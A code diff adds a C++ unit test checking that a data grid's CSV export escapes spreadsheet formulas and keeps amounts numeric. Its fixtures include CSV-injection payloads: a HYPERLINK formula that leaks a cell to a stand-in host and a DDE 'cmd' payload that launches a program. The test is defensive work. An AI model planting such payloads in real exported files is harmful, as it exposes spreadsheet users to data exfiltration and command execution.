@@ -3,6 +3,7 @@
 #include "data/database.h"
 #include "data/dataset.h"
 #include "data/dmmain.h"
+#include "data/schema.h"
 #include "data/session.h"
 #include "testlib/apphome.h"
 #include "testlib/tempdatabase.h"
@@ -339,6 +340,49 @@ TEST_P(GridTest, CsvHasTheBomVisibleColumnsInOrderAndQuotes)
     grid->view()->selectionModel()->select(grid->model()->index(0, 0),
                                            QItemSelectionModel::Select | QItemSelectionModel::Rows);
     EXPECT_EQ(grid->selectedText(), "赵,\"六\"\tA05\t女\n李四\tA01\t女");
+}
+
+TEST_P(GridTest, CsvRunsNoFormulaAndKeepsAmountsAsNumbers)
+{
+    const struct {
+        const char *id, *title;
+        double amount;
+    } rows[] = {
+        {"H1", "=HYPERLINK(\"http://x.cn/?d=\"&A2,\"详情\")", -1234.5},
+        {"H2", "+1+cmd|' /C calc'!A0", 0},
+        {"H3", "@SUM(1+1)", 1500},
+        {"H4", "\t=1+1", 2},
+        {"H5", "\r=1+1", 3},
+        {"H6", "-2+3", -0.25},
+        {"H7", "家政 = 服务", 7},
+    };
+    for (const auto &r : rows)
+        ASSERT_EQ(t->db().insertRow("tblOperates", {{"OperateID", r.id}, {"OperateTitle", r.title},
+                                                    {"CompactAmount", r.amount}, {"RMB", r.amount}, {"Rate", 1.5}}),
+                  "");
+    Dataset contracts(&t->db(), "tblOperates", Schema::table("tblOperates"));
+    contracts.setOrderBy({"OperateID"});
+    ASSERT_TRUE(contracts.open());
+    DataGrid g(&contracts, {{"OperateID", "业务代码"}, {"OperateTitle", "业务标题"}, {"CompactAmount", "金额"},
+                            {"RMB", "人民币"}, {"Rate", "汇率"}},
+               "Test.Contracts");
+    const QString path = t->dir() + "/contracts.csv";
+    ASSERT_EQ(g.writeCsv(path), "");
+    QFile f(path);
+    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
+    const QStringList lines = QString::fromUtf8(f.readAll().mid(3)).split("\r\n");
+    const QStringList expected{
+        "业务代码,业务标题,金额,人民币,汇率",
+        "H1,\"'=HYPERLINK(\"\"http://x.cn/?d=\"\"&A2,\"\"详情\"\")\",-1234.50,-1234.50,1.5",
+        "H2,'+1+cmd|' /C calc'!A0,0.00,0.00,1.5",
+        "H3,'@SUM(1+1),1500.00,1500.00,1.5",
+        "H4,'\t=1+1,2.00,2.00,1.5",
+        "H5,\"'\r=1+1\",3.00,3.00,1.5",
+        "H6,'-2+3,-0.25,-0.25,1.5",
+        "H7,家政 = 服务,7.00,7.00,1.5",
+        "",
+    };
+    EXPECT_EQ(lines, expected);
 }
 
 TEST_P(GridTest, RemembersColumnsUntilTheDefaultsAreAskedFor)
